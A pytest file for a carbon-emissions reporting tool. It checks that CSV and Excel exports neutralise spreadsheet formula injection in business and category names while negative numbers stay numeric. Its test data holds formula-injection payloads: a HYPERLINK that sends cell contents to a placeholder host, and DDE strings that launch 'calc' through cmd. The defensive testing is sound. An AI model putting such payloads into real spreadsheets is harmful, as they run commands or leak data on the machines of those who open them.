"""The emissions report never executes what Sage sends: no cell of its CSVs or workbook is a formula.

A business, supplier or category name is Sage's text. A name that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is a live formula once the CSV or XLSX opens in a spreadsheet
(CSV/formula injection). Every writer prefixes such text with ``'``; numbers, negative ones
included, stay numbers.

The marts the report reads are made here by hand (the real tables' columns, in the real
warehouse), so the test runs without a dbt build.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import openpyxl
import psycopg
import pytest
from psycopg import sql

from sage_sync.reporting import report

HOSTILE = {
    "=": '=HYPERLINK("http://x.invalid/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
COMPANY = "c-hostile"
NAME = HOSTILE["="]


def _make_marts(conn: psycopg.Connection) -> None:
    conn.execute("create schema if not exists analytics")
    conn.execute("create table analytics.dim_companies (company_id text, company_name text)")
    conn.execute("insert into analytics.dim_companies values (%s, %s)", (COMPANY, NAME))
    for table, columns in (
        ("rpt_emissions_by_category_quarter", report.CATEGORY_COLUMNS),
        ("rpt_emissions_coverage", report.COVERAGE_COLUMNS),
    ):
        typed = [
            sql.SQL("{} {}").format(
                sql.Identifier(c),
                sql.SQL(
                    "text"
                    if c in ("company_id", "company_name", "quarter", "category", "factor_set")
                    else "boolean"
                    if c.startswith("is_")
                    else "numeric"
                ),
            )
            for c in columns
        ]
        conn.execute(
            sql.SQL("create table analytics.{} ({}, quarter_start_date date)").format(
                sql.Identifier(table), sql.SQL(", ").join(typed)
            )
        )
    for n, (key, text) in enumerate(HOSTILE.items()):
        values = {
            "company_id": COMPANY,
            "company_name": NAME,
            "quarter": "2025-Q1",
            "category": text,
            "factor_set": f"{key} set",
            "line_count": 1,
            "net_gbp": Decimal("-12.50") if n == 0 else Decimal("100.00"),  # a credit note: a real negative number
            "mapped_gbp": Decimal("-12.50") if n == 0 else Decimal("100.00"),
            "unmapped_gbp": Decimal(0),
            "out_of_scope_gbp": Decimal(0),
            "kgco2e": Decimal("-3.25") if n == 0 else Decimal("10"),
            "upstream_only_kgco2e": Decimal(0),
            "low_confidence_kgco2e": Decimal(0),
            "share_of_quarter_kgco2e": Decimal("0.1"),
        }
        conn.execute(
            "insert into analytics.rpt_emissions_by_category_quarter "
            f"({', '.join(report.CATEGORY_COLUMNS)}, quarter_start_date) "
            f"values ({', '.join(['%s'] * len(report.CATEGORY_COLUMNS))}, '2025-01-01')",
            [values[c] for c in report.CATEGORY_COLUMNS],
        )
    conn.execute(
        "insert into analytics.rpt_emissions_coverage (company_id, company_name, quarter, factor_set, "
        "is_company_data_complete, line_count, net_gbp, mapped_gbp, unmapped_gbp, out_of_scope_gbp, in_scope_gbp, "
        "coverage_share, low_confidence_gbp, kgco2e, upstream_only_kgco2e, quarter_start_date) values "
        "(%s, %s, '2025-Q1', %s, true, 6, 487.5, 487.5, 0, 0, 487.5, 1, 0, -1.5, 0, '2025-01-01')",
        (COMPANY, NAME, HOSTILE["@"]),
    )
    conn.commit()


@pytest.fixture
def files(warehouse: psycopg.Connection, tmp_path: Path) -> report.ReportFiles:
    _make_marts(warehouse)
    return report.write_report(warehouse, COMPANY, tmp_path)


def _dangerous(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_a_formula(files: report.ReportFiles) -> None:
    for path in (files.category_csv, files.coverage_csv):
        with path.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        cells = [cell for row in rows[1:] for cell in row]
        hostile = [cell for cell in cells if _dangerous(cell) and not _is_number(cell)]
        assert hostile == [], (path.name, hostile)
        assert f"'{NAME}" in cells, path.name  # kept, readable, inert
    with files.category_csv.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["category"] for row in rows} == {f"'{text}" for text in HOSTILE.values()}
    assert "-12.50" in {row["net_gbp"] for row in rows}  # a real negative number stays a number
    assert "-3.25" in {row["kgco2e"] for row in rows}


def test_no_workbook_cell_is_a_formula(files: report.ReportFiles) -> None:
    workbook = openpyxl.load_workbook(files.workbook)
    texts: list[str] = []
    numbers: list[float] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers.append(cell.value)
    assert [t for t in texts if _dangerous(t)] == []
    assert f"'{NAME}" in texts and f"'{NAME} ({COMPANY})" in texts
    assert -12.5 in numbers and -3.25 in numbers  # negative numbers are numbers, not text
